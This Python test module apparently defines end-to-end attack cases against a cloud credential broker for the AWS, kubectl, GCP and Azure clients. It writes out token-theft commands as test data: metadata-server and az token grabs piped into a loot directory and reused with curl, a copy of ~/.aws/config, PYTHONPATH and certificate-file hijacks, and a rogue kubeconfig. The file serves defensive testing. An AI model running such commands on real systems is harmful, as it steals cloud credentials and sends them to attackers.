"""Attacks on what the clouds' tools are given: sessions and tokens that the broker mints, and what kubectl shows."""

from functools import partial

from msgspec import structs

from tests.e2e.attacks.row import USE
from tests.e2e.attacks.tool_attacks import asks, elsewhere, genuine, gives, renamed, rows, setting
from tests.e2e.clients import aws, azure, gcp, kubectl

_LIST = "--endpoint-url {url} --profile dev s3api list-buckets"
_BEARER = 'test -n "$token" && curl -sS -H "Authorization: Bearer $token" '
_METADATA = (
    "curl -sS -H 'Metadata-Flavor: Google' "
    "http://{endpoint}/computeMetadata/v1/instance/service-accounts/default/token | tee {loot}/answer"
)
_AZ = "az account get-access-token --output json --resource {url} 2>&1 | tee {loot}/answer"
_KUBECONFIG = """apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "{second}", certificate-authority-data: "{authority-second}"}}]
contexts: [{name: c, context: {cluster: c, user: u}}]
current-context: c
users:
- name: u
  user: {exec: {apiVersion: client.authentication.k8s.io/v1beta1, command: "{shim}", args: [kubectl, alice],
    interactiveMode: Never, provideClusterInfo: true}}
"""

_AWS_ALONE = structs.replace(aws.CLIENT, stand=partial(aws.stand, boto3=False), options=("--binary", aws.AWS))
AWS = rows(
    _AWS_ALONE,
    asks("{shim} aws dev | tee {loot}/answer | /usr/bin/python3 {programs}/aws_uses.py {url}"),
    renamed(f"cp {{aws}} ~/aws && /usr/bin/python3 ~/aws {_LIST}"),
    setting(
        "AWS_CONFIG_FILE is the attacker's", {"AWS_CONFIG_FILE": "{loot}/config"}, "cp ~/.aws/config {loot}/config"
    ),
    setting("PYTHONPATH is the attacker's", {"PYTHONPATH": "{programs}"}, name="pythonpath"),
    elsewhere("{aws} --endpoint-url $at --profile dev s3api list-buckets", thief="{url}"),
    genuine(),
)
KUBECTL = rows(
    kubectl.CLIENT,
    asks(f"KUBERNETES_EXEC_INFO='{kubectl.INFO}' {{shim}} kubectl alice"),
    renamed("cp -L {kubectl} ~/kubectl && ~/kubectl get pods"),
    setting("SSL_CERT_FILE is the attacker's", {"SSL_CERT_FILE": "{loot}/authority"}, "touch {loot}/authority"),
    elsewhere(f"echo '{_KUBECONFIG}' > {{loot}}/kubeconfig; {{kubectl}} --kubeconfig {{loot}}/kubeconfig get pods"),
    genuine(),
)
GCP = rows(
    gcp.CLIENT,
    asks(
        f"{_METADATA}; token=$(grep -o 'ya29[^\"]*' {{loot}}/answer); {_BEARER} {{url}}/storage/v1/b",
        "a process asks the metadata server itself",
    ),
    renamed("cp {program} ~/cloud/bin/other && ~/cloud/bin/other {url}/storage/v1/b; rm ~/cloud/bin/other"),
    setting("PYTHONPATH is the attacker's", {"PYTHONPATH": "{programs}"}),
    gives(
        elsewhere("{program} $at/storage/v1/b", thief="{url}"),
        USE,
        "no rule for the agent, or a program that sends its token to Google alone; the token ends within an hour",
    ),
    genuine(),
    what="google-auth",
)
AZURE = rows(
    azure.CLIENT,
    asks(f"{_AZ}; token=$(grep -o 'eyJ0[^\"]*' {{loot}}/answer); {_BEARER} {{url}}"),
    renamed("cp {program} ~/azure-tool/bin/copy && ~/azure-tool/bin/copy {url}; rm ~/azure-tool/bin/copy"),
    setting("PYTHONPATH is the attacker's", {"PYTHONPATH": "{programs}"}, use="{program} {url}"),
    elsewhere("{program} $at", thief="{url}"),
    genuine("{program} {url}"),
    what="azure-identity",
)

ROWS = (*AWS, *KUBECTL, *GCP, *AZURE)
